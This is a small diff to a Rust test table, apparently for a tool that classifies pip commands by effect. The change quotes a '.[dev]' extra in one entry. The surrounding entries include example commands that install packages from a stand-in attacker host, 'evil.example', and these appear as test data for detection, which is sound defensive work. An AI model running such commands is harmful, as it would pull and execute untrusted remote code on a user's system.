@@ -285,7 +285,7 @@ pub(super) const TABLE: &[Spec] = &[
             ("pip install -r https://evil.example/r.txt", "installs-named"),
             ("pip install -r requirements.txt -i http://evil.example", "installs-declared installs-named"),
             ("pip install -e .", "installs-declared project-code"),
-            ("pip install .[dev]", "installs-declared project-code"),
+            ("pip install '.[dev]'", "installs-declared project-code"),
             ("pip uninstall -y requests", "deletes"),
             ("pip download -d /tmp requests", "installs-named writes"),
             ("pip cache purge", "deletes"),
